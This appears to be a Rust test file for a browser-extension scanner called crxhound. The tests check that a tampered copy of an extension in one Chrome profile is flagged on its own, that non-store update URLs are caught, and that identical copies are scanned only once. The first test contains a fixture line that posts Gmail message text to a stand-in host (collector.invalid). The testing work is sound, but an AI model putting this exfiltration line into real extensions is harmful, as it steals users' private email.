//! One extension in several profiles: worked out once where it is the same, and judged by its own files where it is not.

use std::fs;
use std::path::Path;
use std::process::Command;

use crxhound::discover::{Filter, Root, Users};
use crxhound::engine::{Config, Engine, ScanRequest, Silent};
use crxhound::finding::Verdict;
use crxhound::report::Report;
use serde_json::json;

use crate::support::made::{self, MadeUserData};

fn scan(path: &Path) -> Report {
    let engine = Engine::new(Config { worker: false, ..Config::builtin().unwrap() }).unwrap();
    let filter = Filter { paths: vec![path.to_owned()], ..Filter::default() };
    engine.scan(&ScanRequest { root: Root::live(Users::Current), filter, ids: Vec::new() }, &Silent)
}

/// Another file under the same id and version: what was found in the honest ones says nothing of the one that was changed.
#[test]
fn a_changed_copy_among_equal_ones_is_judged_by_its_own_files() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = json!({
        "manifest_version": 3,
        "name": "Made 0",
        "version": "1.0",
        "permissions": ["storage"],
        "content_scripts": [{"matches": ["https://mail.google.com/*"], "js": ["worker.js"]}],
        "update_url": "https://clients2.google.com/service/update2/crx",
    });
    let theft = "fetch('https://collector.invalid/', {method: 'POST', body: document.querySelector('.a3s').innerText});";
    for changed in ["Default", "Profile 1", "Profile 2"] {
        let data = MadeUserData::at(dir.path().join(changed));
        for directory in ["Default", "Profile 1", "Profile 2"] {
            let profile = data.profile(directory, &json!({made::id(0).as_str(): made::store_entry(0, &manifest)}));
            made::files(&profile, 0, 100);
            let folder = profile.join("Extensions").join(made::id(0).as_str()).join("1.0_0");
            fs::write(folder.join("manifest.json"), manifest.to_string()).unwrap();
            if directory == changed {
                fs::write(folder.join("worker.js"), theft).unwrap();
            }
        }
        let report = scan(&data.path);
        assert_eq!(report.extensions.len(), 3);
        for extension in &report.extensions {
            let is_changed = extension.profile.as_deref() == Some(changed);
            let steals = extension.findings.iter().any(|finding| !finding.flow.is_empty());
            assert_eq!(steals, is_changed, "{changed}: {:?}", extension.profile);
            assert_eq!(extension.verdict >= Verdict::Suspicious, is_changed, "{changed}: {:?}", extension.profile);
        }
    }
}

/// The same files, but one profile's entry names another server for updates.
#[test]
fn what_a_profile_says_of_an_equal_copy_is_its_own() {
    let dir = tempfile::tempdir().unwrap();
    let data = MadeUserData::at(dir.path());
    for (directory, address) in
        [("Default", "https://clients2.google.com/service/update2/crx"), ("Profile 1", "https://u.invalid/")]
    {
        let mut manifest = made::manifest(0);
        manifest["update_url"] = json!(address);
        let profile = data.profile(directory, &json!({made::id(0).as_str(): made::store_entry(0, &manifest)}));
        made::files(&profile, 0, 100);
    }
    let report = scan(&data.path);
    let from_outside: Vec<_> = report
        .extensions
        .iter()
        .map(|extension| extension.findings.iter().any(|finding| finding.rule == "updates-from-outside-stores"))
        .collect();
    assert_eq!(from_outside, [false, true]);
}

/// In processor time, which others who have the machine at the same time do not use up: `sh` says what its children took.
#[test]
#[cfg(unix)]
fn equal_copies_are_worked_out_once() {
    let dir = tempfile::tempdir().unwrap();
    let one = made::user_data(&dir.path().join("one"), 1, 1, 200_000);
    let twelve = made::user_data(&dir.path().join("twelve"), 12, 1, 200_000);
    let taken = |path: &Path, expected: usize| -> f64 {
        let output = Command::new("sh")
            .args(["-c", r#""$@"; times >&2"#, "sh", env!("CARGO_BIN_EXE_crxhound"), "scan"])
            .args(["--emulate", "never", "--no-cache", "--quiet", "--format", "json", "--user-data-dir"])
            .arg(path)
            .output()
            .unwrap();
        let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        assert_eq!(report["extensions"].as_array().unwrap().len(), expected);
        // The last of `0m0.214s 0m0.031s`: what the children took themselves, and what the system took for them.
        let said = String::from_utf8(output.stderr).unwrap();
        let children = said.lines().last().unwrap();
        children
            .split_whitespace()
            .map(|time| {
                let (minutes, seconds) = time.split_once('m').unwrap();
                minutes.parse::<f64>().unwrap() * 60.0 + seconds.trim_end_matches('s').parse::<f64>().unwrap()
            })
            .sum()
    };
    // With much room: not once, they would take twelve times as long.
    let (mut alone, mut together) = (f64::MAX, f64::MAX);
    for _ in 0..4 {
        (alone, together) = (alone.min(taken(&one.path, 1)), together.min(taken(&twelve.path, 12)));
        eprintln!("{together:.2} s for twelve, {alone:.2} s for one");
        if together < alone * 4.0 {
            return;
        }
    }
    panic!("{together:.2} s for twelve, {alone:.2} s for one");
}
